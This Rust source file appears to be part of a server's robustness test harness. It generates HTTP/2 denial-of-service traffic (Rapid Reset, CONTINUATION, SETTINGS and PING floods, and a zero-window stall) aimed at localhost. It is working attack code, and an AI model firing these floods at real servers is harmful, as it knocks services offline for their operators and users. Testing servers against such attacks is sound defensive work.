//! Frames of HTTP/2 (RFC 9113 §4, §6) that no honest client sends.

use std::io;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use super::Attack;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 §6.5.2) of nothing.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// The reason CANCEL (RFC 9113 §7).
const CANCEL: &[u8] = &[0, 0, 0, 8];
/// How much is written at once.
const BATCH: usize = 32 << 10;

/// Talks until the server has had enough.
pub(super) async fn talk(stream: impl AsyncRead + AsyncWrite, attack: Attack) -> io::Result<()> {
    let (mut read, mut write) = tokio::io::split(stream);
    let settings = if attack == Attack::ClosedWindow { NO_WINDOW } else { &[] };
    let mut first = PREFACE.to_vec();
    frame(&mut first, SETTINGS, 0, 0, settings);
    frame(&mut first, SETTINGS, 1, 0, &[]);
    write.write_all(&first).await?;
    let reads = async {
        if matches!(attack, Attack::SettingsFlood | Attack::PingFlood) {
            return std::future::pending().await;
        }
        while read.read(&mut [0; 4096]).await? > 0 {}
        Err(io::ErrorKind::UnexpectedEof.into())
    };
    let writes = async {
        let mut stream_id = 1;
        loop {
            let mut frames = Vec::with_capacity(BATCH + 100);
            while frames.len() < BATCH {
                match attack {
                    Attack::RapidReset => {
                        frame(&mut frames, HEADERS, END_STREAM | END_HEADERS, stream_id, &request());
                        frame(&mut frames, RST_STREAM, 0, stream_id, CANCEL);
                        stream_id += 2;
                    }
                    Attack::ClosedWindow if stream_id < 200 => {
                        frame(&mut frames, HEADERS, END_STREAM | END_HEADERS, stream_id, &request());
                        stream_id += 2;
                    }
                    Attack::ClosedWindow => break,
                    Attack::ContinuationFlood => {
                        let kind = if stream_id == 1 { HEADERS } else { CONTINUATION };
                        // A header that is not indexed, `x: y…` (RFC 7541 §6.2.2).
                        let block = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
                        let block = if stream_id == 1 { [request(), block].concat() } else { block };
                        frame(&mut frames, kind, 0, 1, &block);
                        stream_id += 2;
                    }
                    Attack::PingFlood => frame(&mut frames, PING, 0, 0, &[0; 8]),
                    _ => frame(&mut frames, SETTINGS, 0, 0, &[]),
                }
            }
            write.write_all(&frames).await?;
            if attack == Attack::ClosedWindow {
                return std::future::pending().await;
            }
        }
    };
    tokio::select! {
        ended = reads => ended,
        ended = writes => ended,
    }
}

/// `GET https://localhost/.well-known/jwks.json` (RFC 7541 §6.1, §6.2.2, appendix A).
fn request() -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(1, "localhost"), (4, "/.well-known/jwks.json")] {
        block.push(name);
        block.push(u8::try_from(value.len()).unwrap_or(0));
        block.extend_from_slice(value.as_bytes());
    }
    block
}

fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream_id: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    into.extend_from_slice(&length[1..]);
    into.extend_from_slice(&[kind, flags]);
    into.extend_from_slice(&stream_id.to_be_bytes());
    into.extend_from_slice(payload);
}
